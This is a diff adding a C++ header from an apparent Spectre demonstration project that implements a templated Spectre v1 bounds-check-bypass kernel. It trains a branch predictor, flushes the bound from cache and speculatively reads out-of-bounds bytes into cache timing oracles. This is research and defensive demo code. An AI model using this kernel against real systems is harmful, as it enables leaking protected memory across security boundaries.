@@ -0,0 +1,169 @@
+/*
+ * Copyright 2020 Google LLC
+ *
+ * Licensed under both the 3-Clause BSD License and the GPLv2, found in the
+ * LICENSE and LICENSE.GPL-2.0 files, respectively, in the root directory.
+ *
+ * SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0
+ */
+
+#ifndef DEMOS_BOUNDS_CHECK_KERNEL_H_
+#define DEMOS_BOUNDS_CHECK_KERNEL_H_
+
+#include <cstddef>
+#include <type_traits>
+
+#include "compiler_specifics.h"
+#include "instr.h"
+#include "multi_timing_array.h"
+#include "timing_array.h"
+#include "utils.h"
+
+// The training loop of spectre_v1_pht_sa, specialized at compile time.
+//
+// The hand-written loop picks the offset of every iteration at runtime with
+// branchless arithmetic, e.g.
+//     offset + (safe_offset - offset) * static_cast<bool>((i + 1) % 2048)
+// so that the compiler doesn't introduce a second, data-dependent branch next
+// to the bounds check. Here the iteration that reads out of bounds is a
+// template parameter instead. The loop is unrolled in chunks of kUnroll
+// iterations, and the iteration at kMispredictSlot's position within a chunk
+// is generated to read a per-chunk offset while all others read the safe
+// offset. The per-chunk offset is the attack offset in the chunk holding
+// kMispredictSlot and the safe offset in every other one, which trains that
+// iteration's bounds check like all the others. The offset arithmetic runs
+// once per chunk instead of once per iteration, and what's left in each
+// iteration is the flush, the bounds check and the oracle access.
+//
+//   T               element type of the data. The oracle is indexed by the
+//                   low byte of the element.
+//   kPeriod         iterations per Run(), i.e. training length plus one.
+//   kMispredictSlot the iteration that reads out of bounds.
+//   kUnroll         iterations per unrolled chunk.
+//
+// The oracle is a TimingArray, into which each iteration encodes data[offset],
+// or a MultiTimingArray with K oracles, into which it encodes the K bytes
+// data[offset] to data[offset + K - 1], one per oracle, all in the same
+// speculative window. The bounds check then covers all K bytes.
+//
+// Example use, equivalent to spectre_v1_pht_sa:
+//
+//     timing_array.FlushFromCache();
+//     BoundsCheckKernel<char>::Run(data, size_in_heap, timing_array,
+//                                  safe_offset, offset);
+//     int ret = timing_array.FindFirstCachedElementIndexAfter(...);
+
+namespace bounds_check_kernel_internal {
+
+// Encodes data[0] into the oracle.
+template <typename T>
+inline SAFESIDE_ALWAYS_INLINE void Encode(TimingArray &oracle, const T *data) {
+  ForceRead(&oracle[static_cast<unsigned char>(data[0])]);
+}
+
+// Encodes data[k] into oracle k, for every oracle.
+template <typename T>
+inline SAFESIDE_ALWAYS_INLINE void Encode(MultiTimingArray &oracle,
+                                          const T *data) {
+  for (size_t k = 0; k < oracle.oracles(); ++k) {
+    ForceRead(&oracle.at(k, static_cast<unsigned char>(data[k])));
+  }
+}
+
+// Number of bytes Encode() reads.
+inline size_t EncodedBytes(TimingArray &) { return 1; }
+inline size_t EncodedBytes(MultiTimingArray &oracle) {
+  return oracle.oracles();
+}
+
+inline SAFESIDE_ALWAYS_INLINE size_t PickOffset(std::false_type,
+                                                size_t safe_offset, size_t) {
+  return safe_offset;
+}
+
+inline SAFESIDE_ALWAYS_INLINE size_t PickOffset(std::true_type, size_t,
+                                                size_t chunk_offset) {
+  return chunk_offset;
+}
+
+// Runs iterations [0, kStep) of a chunk. Iteration kAttackStep reads
+// `chunk_offset`, all others `safe_offset`.
+// `last` is the offset of the last encoded byte relative to the first.
+template <typename T, size_t kStep, size_t kAttackStep>
+struct Steps {
+  template <typename Oracle>
+  static SAFESIDE_ALWAYS_INLINE void Run(const T *data, size_t *size,
+                                         Oracle &oracle, size_t last,
+                                         size_t safe_offset,
+                                         size_t chunk_offset) {
+    Steps<T, kStep - 1, kAttackStep>::Run(data, size, oracle, last,
+                                          safe_offset, chunk_offset);
+
+    size_t offset = PickOffset(
+        std::integral_constant<bool, kStep - 1 == kAttackStep>(), safe_offset,
+        chunk_offset);
+
+    // Remove from cache so that we block on loading it from memory,
+    // triggering speculative execution.
+    FlushDataCacheLine(size);
+    if (offset + last < *size) {
+      // Trained to be taken, so it's also taken speculatively when the
+      // condition is false.
+      Encode(oracle, data + offset);
+    }
+  }
+};
+
+template <typename T, size_t kAttackStep>
+struct Steps<T, 0, kAttackStep> {
+  template <typename Oracle>
+  static SAFESIDE_ALWAYS_INLINE void Run(const T *, size_t *, Oracle &, size_t,
+                                         size_t, size_t) {}
+};
+
+}  // namespace bounds_check_kernel_internal
+
+template <typename T, size_t kPeriod = 2048,
+          size_t kMispredictSlot = kPeriod - 1, size_t kUnroll = 16>
+class BoundsCheckKernel {
+  static_assert(std::is_integral<T>::value,
+                "The oracle is indexed by the data, so it must be integral");
+  static_assert(kUnroll > 0 && kPeriod % kUnroll == 0,
+                "The period must be a whole number of unrolled chunks");
+  static_assert(kMispredictSlot < kPeriod,
+                "The out-of-bounds read must be part of the period");
+  static_assert(kUnroll <= 64,
+                "Deeper unrolling mostly grows the code past the uop cache");
+
+ public:
+  // Runs kPeriod iterations of the bounds check on `data`: all read
+  // `safe_offset` except iteration kMispredictSlot, which reads
+  // `attack_offset`. `*size` is the bound, and is flushed from the cache
+  // before every check. `oracle` is a TimingArray or a MultiTimingArray.
+  //
+  // Never inlined, so that every caller shares one copy of the code and its
+  // branch addresses.
+  template <typename Oracle>
+  static SAFESIDE_NEVER_INLINE void Run(const T *data, size_t *size,
+                                        Oracle &oracle, size_t safe_offset,
+                                        size_t attack_offset) {
+    using bounds_check_kernel_internal::Steps;
+    const size_t last =
+        bounds_check_kernel_internal::EncodedBytes(oracle) - 1;
+    const size_t kChunks = kPeriod / kUnroll;
+    const size_t kAttackChunk = kMispredictSlot / kUnroll;
+
+    for (size_t chunk = 0; chunk < kChunks; ++chunk) {
+      // Branchless equivalent of
+      //     chunk_offset = chunk == kAttackChunk ? attack_offset : safe_offset;
+      size_t chunk_offset =
+          safe_offset +
+          (attack_offset - safe_offset) * static_cast<bool>(chunk ==
+                                                            kAttackChunk);
+      Steps<T, kUnroll, kMispredictSlot % kUnroll>::Run(
+          data, size, oracle, last, safe_offset, chunk_offset);
+    }
+  }
+};
+
+#endif  // DEMOS_BOUNDS_CHECK_KERNEL_H_